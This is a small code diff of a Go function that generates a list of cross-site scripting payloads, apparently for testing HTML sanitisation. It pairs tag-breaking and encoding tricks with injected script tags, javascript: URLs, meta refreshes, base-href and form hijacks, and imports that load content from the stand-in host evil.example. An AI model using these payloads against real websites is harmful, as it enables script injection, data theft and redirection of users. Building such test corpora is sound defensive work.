@@ -16,8 +16,10 @@ func payloads() []string {
 		}
 	}
 	for _, way := range []string{"%s", `">%s`, `'>%s`, "`>%s", "-->%s<!--", "]]>%s", "</title>%s", "</style>%s", "</textarea>%s", "</script>%s", "</table>%s", "</td></tr>%s", "</svg>%s", "<!--%s", "<![CDATA[%s]]>", "<template>%s</template>", "<noscript>%s</noscript>", "<x y='%s'>", "\x00%s", "\u202e%s", "\u2028%s", "%s\r\n\r\n", "\ufeff%s", "<%%00%s"} {
-		for _, end := range []string{"<script>" + act + "</script>", "<script src=https://evil.example/x.js></script>", "<img src=https://evil.example/x.png>", "<iframe src=javascript:" + act + ">", "<iframe srcdoc=\"<script>parent." + act + "</script>\">",
-			"<meta http-equiv=refresh content='0;url=https://evil.example'>", "<a href=javascript:" + act + ">x</a>", "<base href=https://evil.example/>", "<form action=https://evil.example><input type=submit></form>", "<style>@import 'https://evil.example/x.css'</style>", "<svg><use href='https://evil.example/x.svg#x'/></svg>"} {
+		for _, end := range []string{
+			"<script>" + act + "</script>", "<script src=https://evil.example/x.js></script>", "<img src=https://evil.example/x.png>", "<iframe src=javascript:" + act + ">", "<iframe srcdoc=\"<script>parent." + act + "</script>\">",
+			"<meta http-equiv=refresh content='0;url=https://evil.example'>", "<a href=javascript:" + act + ">x</a>", "<base href=https://evil.example/>", "<form action=https://evil.example><input type=submit></form>", "<style>@import 'https://evil.example/x.css'</style>", "<svg><use href='https://evil.example/x.svg#x'/></svg>",
+		} {
 			out = append(out, fmt.Sprintf(way, end))
 		}
 	}
